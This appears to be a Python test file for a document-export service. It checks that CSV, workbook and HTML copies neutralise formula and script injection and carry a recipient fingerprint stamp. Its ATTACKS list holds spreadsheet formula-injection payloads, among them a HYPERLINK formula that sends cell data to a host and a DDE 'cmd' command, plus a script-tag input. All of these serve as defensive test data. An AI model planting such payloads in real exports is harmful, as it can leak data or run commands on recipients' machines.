"""Copies that leave the system: nothing in them runs, and each one says whose it is."""

import csv
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from services.dossier.adapters.documents.delimited import csv_of
from services.dossier.adapters.documents.page import page_of
from services.dossier.adapters.documents.workbook import workbook_of
from services.dossier.domain.sheets.cells import MINUS_ALONE, STARTERS, harmless
from services.dossier.domain.sheets.sheet import Document, Stamp, Table, fingerprint_of

ATTACKS = [
    '=HYPERLINK("http://127.0.0.1/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "'=1+1",
    "＝1+1",
    "＠SUM(1)",
    "|x",
    "\ufeff=1",
]
STAMP = Stamp(
    export_id="e-1",
    fingerprint="f" * 64,
    recipient="gxj",
    purpose="督办",
    made_at="2026-03-02T09:00:00+08:00",
)


def document(*cells: str) -> Document:
    return Document(
        name="appeals",
        title_zh="诉求收集表",
        title_en="Appeals",
        about=[("截至 as of", "2026-03-02")],
        tables=[
            Table(
                title_zh="诉求收集表",
                title_en="Appeals",
                columns=["标题 title", "件数 count"],
                rows=[(cell, 1) for cell in cells],
            )
        ],
        proof=Table(title_zh="证明", title_en="Proof", columns=["链 chain"], rows=[("k",)]),
    )


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_of_a_csv_or_a_workbook_can_be_taken_for_a_formula(text: str) -> None:
    made = document(text)
    for row in csv.reader(StringIO(csv_of(made, STAMP).decode("utf-8-sig"), newline="")):
        for cell in row:
            assert not cell.lstrip(" \u3000\u00a0\ufeff").startswith(tuple(STARTERS))
    book = CalamineWorkbook.from_filelike(BytesIO(workbook_of(made, STAMP)))
    written = str(book.get_sheet_by_name("诉求收集表").to_python()[2][0])
    assert written.startswith("'")
    assert b"<f>" not in workbook_of(made, STAMP)


@given(st.text(max_size=50))
def test_any_text_becomes_harmless_and_is_otherwise_kept(text: str) -> None:
    safe = harmless(text)
    assert safe in {text, "'" + text}
    bare = safe.lstrip(" ")
    assert not bare or bare[0] not in STARTERS or set(bare) <= MINUS_ALONE


def test_a_dash_for_nothing_stays_a_dash() -> None:
    assert (harmless("-"), harmless("——"), harmless("3-4")) == ("-", "——", "3-4")


def test_a_page_shows_markup_as_text_and_forbids_scripts() -> None:
    page = page_of(document("<script>alert(1)</script>"), STAMP).decode()
    assert "<script" not in page
    assert "&lt;script&gt;" in page
    assert "default-src &#x27;none&#x27;" in page


@pytest.mark.parametrize("write", [csv_of, page_of])
def test_fingerprint_recipient_purpose_and_proof_stand_on_every_copy(write: type) -> None:
    text = write(document("x"), STAMP).decode()
    for word in (STAMP.fingerprint, "gxj", "督办", "证明", document("x").content_sha256()):
        assert word in text


def test_every_sheet_of_a_workbook_carries_the_stamp() -> None:
    book = CalamineWorkbook.from_filelike(BytesIO(workbook_of(document("x"), STAMP)))
    assert book.sheet_names == ["说明", "诉求收集表", "证明"]
    for name in book.sheet_names:
        assert STAMP.short in str(book.get_sheet_by_name(name).to_python()[0][0])


def test_a_text_too_long_for_a_cell_is_cut_where_all_can_see_it() -> None:
    book = CalamineWorkbook.from_filelike(BytesIO(workbook_of(document("长" * 40_000), STAMP)))
    cell = str(book.get_sheet_by_name("诉求收集表").to_python()[2][0])
    assert "已截断" in cell
    assert len(cell) < 32_767


def test_two_copies_of_one_content_have_one_content_hash_and_two_fingerprints() -> None:
    content = document("x").content_sha256()
    assert content == document("x").content_sha256()
    assert content != document("y").content_sha256()
    assert fingerprint_of(content, "e-1", "gxj") != fingerprint_of(content, "e-2", "gxj")
    assert fingerprint_of(content, "e-1", "gxj") != fingerprint_of(content, "e-1", "rlj")


def test_the_stamp_is_no_part_of_the_content() -> None:
    assert STAMP.fingerprint not in str(document("x").as_json())
